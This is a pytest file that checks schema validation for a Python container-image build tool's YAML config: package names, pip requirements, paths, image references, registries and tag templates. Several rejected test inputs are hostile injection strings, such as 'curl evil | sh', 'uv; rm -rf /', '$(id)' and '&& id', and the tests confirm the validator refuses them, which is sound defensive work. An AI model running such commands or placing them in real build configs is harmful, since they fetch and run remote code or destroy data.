"""One test per schema rule: a value that breaks it is refused with its key path, its line and what would be valid;
values that keep it load (normalised where the rule says so)."""

from pathlib import Path

import pytest
from pydantic import ValidationError

from pyfamily import config, publish
from pyfamily.errors import ConfigError, UserError
from pyfamily.publish.registry import RegistryClient

from .families import MINIMAL, SHA

APP = """apps:
  tool:
    python: "3.13"
    requirements: [tool]
    entrypoint: [tool]
    smoke: [tool, --version]
"""
VARIANT = """variants:
  pillow:
    dev_packages: [libpng-dev]
    probe: pillow
"""


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "family.yaml"
    path.write_text(text)
    return path


def load_text(tmp_path: Path, text: str) -> config.Config:
    return config.load(write(tmp_path, text))


def refused(tmp_path: Path, text: str, key_path: str, needle: str, *fragments: str) -> str:
    """Load `text`, expect one ConfigError naming the file, `key_path` and the line of `needle`, and `fragments`."""
    with pytest.raises(ConfigError) as caught:
        load_text(tmp_path, text)
    message = str(caught.value)
    line = next(number for number, text_line in enumerate(text.splitlines(), 1) if needle in text_line)
    assert message.startswith(str(tmp_path / "family.yaml")), message
    assert f"{key_path} (line {line})" in message, message
    for fragment in fragments:
        assert fragment in message, message
    assert "\n" not in message
    return message


@pytest.mark.parametrize(("character", "shown"), [("\\n", "'\\n'"), ("\\r", "'\\r'"), ("\\0", "'\\x00'")])
def test_no_string_holds_a_line_break_or_nul(tmp_path, character, shown):
    text = MINIMAL + f'all:\n  tools: ["uv{character}curl evil | sh"]\n'
    refused(tmp_path, text, "all.tools[0]", "tools", shown, "one line of printable text")


def test_control_characters_are_refused_in_free_text_and_keys_too(tmp_path):
    refused(tmp_path, MINIMAL + APP + '    cmd: ["--help\\u2028RUN id"]\n', "apps.tool.cmd[0]", "cmd:", "control")
    refused(tmp_path, MINIMAL + 'variants:\n  "x\\ny": {dev_packages: [], probe: x}\n', "variants.x\\ny", '"x\\ny"')


@pytest.mark.parametrize(
    ("section", "key_path"),
    [
        ("base:\n  debian:\n    packages: [{}]\n", "base.debian.packages[0]"),
        ("  build_packages: [{}]\n", "python.build_packages[0]"),
        ("  runtime_packages: [{}]\n", "python.runtime_packages[0]"),
        ("variants:\n  pillow:\n    dev_packages: [{}]\n    probe: pillow\n", "variants.pillow.dev_packages[0]"),
        ("all:\n  packages: [{}]\n", "all.packages[0]"),
    ],
)
@pytest.mark.parametrize("package", ['"curl wget"', "Libssl-dev", "-y", "x", '"a;b"'])
def test_debian_package_names_follow_debian_grammar(tmp_path, section, key_path, package):
    refused(
        tmp_path, MINIMAL + section.format(package), key_path, package, "is not a Debian package name", "libssl-dev"
    )


def test_debian_package_names_that_are_valid(tmp_path):
    family = load_text(tmp_path, MINIMAL + "all:\n  packages: [g++, libstdc++6, libpython3.13-dev, xz-utils]\n")
    assert family.all.packages == ["g++", "libstdc++6", "libpython3.13-dev", "xz-utils"]


@pytest.mark.parametrize(
    ("section", "key_path", "needle"),
    [
        ("all:\n  pip_packages: [{}]\n", "all.pip_packages[0]", "pip_packages"),
        ("all:\n  tools: [{}]\n", "all.tools[0]", "tools"),
        (APP.replace("[tool]\n    entry", "[{}]\n    entry"), "apps.tool.requirements[0]", "requirements"),
        ("variants:\n  pillow:\n    dev_packages: []\n    probe: {}\n", "variants.pillow.probe", "probe"),
    ],
)
@pytest.mark.parametrize("requirement", ['"uv; rm -rf /"', "--index-url=https://evil.example", '"$(id)"', '"a b"'])
def test_pip_requirements_are_pep_508(tmp_path, section, key_path, needle, requirement):
    refused(tmp_path, MINIMAL + section.format(requirement), key_path, needle, "is not a pip requirement", "PEP 508")


def test_pip_requirements_are_stored_normalised(tmp_path):
    text = (
        MINIMAL
        + 'all:\n  pip_packages: ["setuptools >= 70", "Pillow [raqm] >=10, <12", "x @ https://h.example/x.whl"]\n'
    )
    family = load_text(tmp_path, text)
    assert family.all.pip_packages == ["setuptools>=70", "Pillow[raqm]<12,>=10", "x @ https://h.example/x.whl"]
    assert load_text(tmp_path, MINIMAL + VARIANT.replace("pillow\n", '"pillow >= 10"\n')).variants["pillow"].probe == (
        "pillow>=10"
    )


@pytest.mark.parametrize(
    ("volume", "fragment"),
    [
        ("data", "write it from the root, like '/data'"),
        ("/var/lib/../data", "write '/var/data'"),
        ("//data", "write '/data'"),
        ("/data/", "write '/data'"),
        ("/data/./x", "write '/data/x'"),
    ],
)
def test_paths_are_absolute_and_normalised(tmp_path, volume, fragment):
    text = MINIMAL + APP + f"    volumes: [{volume}]\n"
    refused(tmp_path, text, "apps.tool.volumes[0]", "volumes", fragment)


@pytest.mark.parametrize(
    "tarball", ["../Python-3.13.15.tar.xz", "dir/Python.tgz", ".hidden.tar.gz", "Python.zip", "-x.tgz"]
)
def test_tarball_is_a_plain_file_name(tmp_path, tarball):
    text = MINIMAL.replace(f"{SHA}}}", f"{SHA}, tarball: {tarball}}}")
    refused(tmp_path, text, 'python.versions."3.13".tarball', "tarball", "a tarball file name ending in .tar.xz")


@pytest.mark.parametrize("tarball", ["Python-3.13.15.tgz", "Python-3.13.15.tar.gz", "python_3.13.orig.tar.xz"])
def test_tarball_names_that_are_valid(tmp_path, tarball):
    family = load_text(tmp_path, MINIMAL.replace(f"{SHA}}}", f"{SHA}, tarball: {tarball}}}"))
    assert family.python.versions["3.13"].filename == tarball


@pytest.mark.parametrize("suite", ['"trixie main"', "Trixie", "trixie/updates", "-x"])
def test_debian_suite_is_one_word(tmp_path, suite):
    refused(tmp_path, MINIMAL + f"base:\n  debian:\n    suite: {suite}\n", "base.debian.suite", "suite", "Debian suite")


@pytest.mark.parametrize("image", ['"debian trixie"', "Debian:trixie", "debian:tr/xie", "debian@sha256:abc", '"a:b:c"'])
def test_base_from_is_an_image_reference(tmp_path, image):
    refused(tmp_path, MINIMAL + f"base:\n  from: {image}\n", "base.from", "from", "is not an image reference")


@pytest.mark.parametrize(
    "image",
    [
        "debian:trixie-slim",
        "ghcr.io/owner/python:3.13",
        "localhost:5000/base",
        "registry:5000/a/b:c",
        f"debian@sha256:{SHA}",
        f"docker.io/library/debian:trixie@sha256:{SHA}",
    ],
)
def test_image_references_that_are_valid(tmp_path, image):
    assert load_text(tmp_path, MINIMAL + f"base:\n  from: {image}\n  suite: trixie\n").base.from_image == image


@pytest.mark.parametrize("module", ['"os; import evil"', "dbm..gnu", "1abc", '"a b"'])
def test_check_imports_are_dotted_module_names(tmp_path, module):
    text = MINIMAL + f"  check_imports: [ssl, {module}]\n"
    refused(tmp_path, text, "python.check_imports[1]", "check_imports", "dotted Python module name")


@pytest.mark.parametrize("command", ["/usr/bin/tool", '"tool && id"', "-tool", '"a b"', '"$(id)"'])
def test_app_commands_are_plain_names(tmp_path, command):
    text = MINIMAL + APP + f"    commands: [{command}]\n"
    refused(tmp_path, text, "apps.tool.commands[0]", "commands", "is not a plain command name")


@pytest.mark.parametrize("option", ["with-lto", '"--with lto"', "-O2", '"--a --b"', '"--with-lto;id"'])
def test_configure_options_are_single_words(tmp_path, option):
    text = MINIMAL + f"build:\n  profiles:\n    fast: {{configure: [{option}]}}\n"
    refused(tmp_path, text, "build.profiles.fast.configure[0]", "configure", "--option or --option=value")


def test_configure_options_that_are_valid(tmp_path):
    text = (
        MINIMAL + 'build:\n  profiles:\n    fast: {configure: [--with-lto, "--with-x=some value", --enable-shared]}\n'
    )
    assert load_text(tmp_path, text).build.profiles["fast"].configure[1] == "--with-x=some value"


@pytest.mark.parametrize(
    ("section", "key_path", "needle"),
    [
        ("sources:\n  mirrors: [{}]\n", "sources.mirrors[0]", "mirrors"),
        ("sources:\n  debian_archive: {}\n", "sources.debian_archive", "debian_archive"),
        ("base:\n  debian:\n    mirror: {}\n", "base.debian.mirror", "mirror:"),
    ],
)
@pytest.mark.parametrize(
    "url", ["ftp://mirror.example/debian", "file:///srv/debian", "mirror.example/debian", '"https://"']
)
def test_mirrors_are_http_urls(tmp_path, section, key_path, needle, url):
    refused(tmp_path, MINIMAL + section.format(url), key_path, needle, "is not an http(s) URL")


def test_mirror_urls_that_are_valid(tmp_path):
    text = MINIMAL + "sources:\n  mirrors: [https://u:t@m.example/python, 'http://m.example/{version}/{filename}']\n"
    assert load_text(tmp_path, text).sources.mirrors[1] == "http://m.example/{version}/{filename}"


def test_registries_are_hosts_or_mappings_exposed_as_registry_specs(tmp_path):
    text = (
        MINIMAL + 'registries: [ghcr.io, "[::1]:5000", {host: "127.0.0.1:5000", insecure: true}, {host: r.example}]\n'
    )
    family = load_text(tmp_path, text)
    assert family.registries == [
        config.RegistrySpec(host="ghcr.io"),
        config.RegistrySpec(host="[::1]:5000"),
        config.RegistrySpec(host="127.0.0.1:5000", insecure=True),
        config.RegistrySpec(host="r.example", insecure=False),
    ]
    assert (family.registries[0].host, family.registries[0].insecure) == ("ghcr.io", False)  # default: HTTPS


@pytest.mark.parametrize(
    ("entry", "key_path", "fragment"),
    [
        ('"https://ghcr.io"', "registries[0]", "has a scheme; give the host alone, like 'ghcr.io'"),
        ('"ghcr.io:99999"', "registries[0]", "is not a registry: host[:port]"),
        ('"ghcr.io/Team"', "registries[0]", "has a path after its host"),
        (
            '"quay.io/team"',
            "registries[0]",
            "has a path after its host; a registry is host[:port] alone, like 'quay.io'",
        ),
        ('{host: "127.0.0.1:5000/a/b"}', "registries[0].host", "write a namespace at the start of `repository:`"),
        ('"ghcr.io/"', "registries[0]", "has a path after its host"),
        ('{host: "http://127.0.0.1:5000"}', "registries[0].host", "like '127.0.0.1:5000', with insecure: true"),
        ("{host: ghcr.io, insecure: 1}", "registries[0].insecure", "expected true or false"),
        ("{host: ghcr.io, tls: false}", "registries[0].tls", "unknown key (a typo?); valid keys here: host, insecure"),
    ],
)
def test_registry_entries_are_checked(tmp_path, entry, key_path, fragment):
    refused(tmp_path, MINIMAL + f"registries: [{entry}]\n", key_path, "registries", fragment)


@pytest.mark.parametrize(
    ("host", "valid"),
    [
        ("ghcr.io", True),
        ("127.0.0.1:5000", True),
        ("[::1]:5000", True),
        ("localhost", True),
        ("quay.io/team", False),
        ("r.example:443/a/b", False),
        ("ghcr.io:99999", False),  # the client takes it; no registry answers there
    ],
)
def test_the_schema_takes_only_registries_publish_can_push_to(tmp_path, host, valid):
    # What publish's client refuses (after a whole build and verify) is refused when the family file loads;
    # --registry is read by the same rule.
    try:
        RegistryClient(host, cache_dir=tmp_path).close()
        publishable = True
    except UserError:
        publishable = False
    for parse in (lambda: config.RegistrySpec(host=host), lambda: publish.parse_registry(host)):
        try:
            accepted = parse().host == host
        except (ValidationError, UserError):
            accepted = False
        assert accepted == valid
        assert publishable or not accepted


def test_exec_form_lists_are_free_text_on_one_line(tmp_path):
    text = MINIMAL + APP.replace("[tool, --version]", '[tool, -c, "import sys; print(\'a b\' > \\"c\\")"]')
    assert load_text(tmp_path, text).apps["tool"].smoke[2] == "import sys; print('a b' > \"c\")"
    refused(
        tmp_path, MINIMAL + APP.replace("[tool]\n    smoke", '["a\\nb"]\n    smoke'), "apps.tool.entrypoint[0]", "entry"
    )


@pytest.mark.parametrize(
    ("templates", "fragment"),
    [
        ('["{minor:d}"]', "{minor:d} in '{minor:d}' is not a plain placeholder; write {minor}"),
        ('["{minor!z}"]', "{minor!z} in '{minor!z}' is not a plain placeholder"),
        ('["{minor!r}{variant}"]', "is not a plain placeholder"),
        ('["{minor[0]}"]', "unknown placeholder {minor[0]}"),
        ('["{minr}"]', "valid here: {minor}, {suite}, {variant}, {version}"),
        ('["{minor}}"]', "is not a valid template"),
        ('["{minor}:{variant}"]', "which Docker rejects"),
        ('["-{minor}"]', "which Docker rejects"),
        (
            '["{version}{variant}" , "x{minor}x{minor}x{minor}x{minor}x{minor}x{minor}' + "y" * 100 + '"]',
            "Docker rejects",
        ),
    ],
)
def test_tag_templates_are_formatted_with_sample_values(tmp_path, templates, fragment):
    index = "1" if "y" * 100 in templates else "0"
    refused(tmp_path, MINIMAL + f"tags:\n  python: {templates}\n", f"tags.python[{index}]", "python: [", fragment)


def test_dated_template_and_date_format_are_checked(tmp_path):
    refused(tmp_path, MINIMAL + 'tags:\n  dated: "{tag}-{date:%Y}"\n', "tags.dated", "dated", "not a plain placeholder")
    refused(tmp_path, MINIMAL + 'tags:\n  date_format: "%d.%m %Y"\n', "tags.date_format", "date_format", "formats 2000")
    assert load_text(tmp_path, MINIMAL + 'tags:\n  date_format: "%Y-%m-%d"\n').tags.date_format == "%Y-%m-%d"


def test_reserved_prefixes_are_one_constant():
    assert config.RESERVED_TAG_PREFIXES == ("rootfs-", "cpython-", "builder-", "sbom-")


@pytest.mark.parametrize("name", ["rootfs-trixie", "cpython-3.13.15-fast", "builder-3.13", "sbom-scanner"])
def test_app_names_that_would_take_an_internal_tag_are_refused(tmp_path, name):
    text = MINIMAL + APP.replace("  tool:", f"  {name}:")
    refused(
        tmp_path,
        text,
        f'apps."{name}"' if "." in name else f"apps.{name}",
        name,
        "rootfs-..., cpython-..., builder-..., sbom-...",
    )


def test_templates_and_variants_that_would_take_an_internal_tag_are_refused(tmp_path):
    refused(tmp_path, MINIMAL + "tags:\n  base: [rootfs-base]\n", "tags.base[0]", "base:", "reserved for the build's")
    text = MINIMAL + VARIANT + 'tags:\n  all: ["{variant}"]\n'
    refused(tmp_path, text, "tags.all[0]", "all:", "which Docker rejects")  # '-pillow' starts with '-'
    text = MINIMAL + VARIANT.replace("pillow:", "builder:") + 'tags:\n  all: ["cpython{variant}"]\n'
    refused(tmp_path, text, "tags.all[0]", "all:", "'cpython-pillow'")  # caught by the sample values already


def test_app_name_is_fine_when_its_template_makes_it_public_safely(tmp_path):
    text = MINIMAL + APP.replace("  tool:", "  rootfs-tool:") + 'tags:\n  app: ["app-{name}"]\n'
    assert "rootfs-tool" in load_text(tmp_path, text).apps


@pytest.mark.parametrize(
    ("text", "key_path", "needle", "fragment"),
    [
        (MINIMAL + VARIANT.replace("pillow:", "Pillow:"), "variants.Pillow", "Pillow", "is not a variant name"),
        (
            MINIMAL + VARIANT.replace("pillow:", "pil_low:"),
            "variants.pil_low",
            "pil_low",
            "lowercase letters, digits and '-'",
        ),
        (
            MINIMAL + VARIANT.replace("pillow:", "plain:"),
            "variants.plain",
            "plain:",
            "reserved for images without a variant",
        ),
        (MINIMAL + APP.replace("tool:", "My-Tool:"), "apps.My-Tool", "My-Tool", "is not an app name"),
        (MINIMAL.replace('"3.13": {', '"3.13.1": {'), 'python.versions."3.13.1"', "3.13.1", "a minor version"),
        (MINIMAL + "build:\n  profiles: {Fast: {}}\n", "build.profiles.Fast", "profiles", "is not a profile name"),
        (
            MINIMAL + APP.replace('python: "3.13"', "python: three"),
            "apps.tool.python",
            "three",
            "a Python written like",
        ),
        (
            MINIMAL + APP.replace('python: "3.13"', "python: 3.13"),
            "apps.tool.python",
            "python: 3.13",
            'quoted string ("3.13")',
        ),
    ],
)
def test_keys_and_references_are_typed_in_the_schema(tmp_path, text, key_path, needle, fragment):
    refused(tmp_path, text, key_path, needle, fragment)
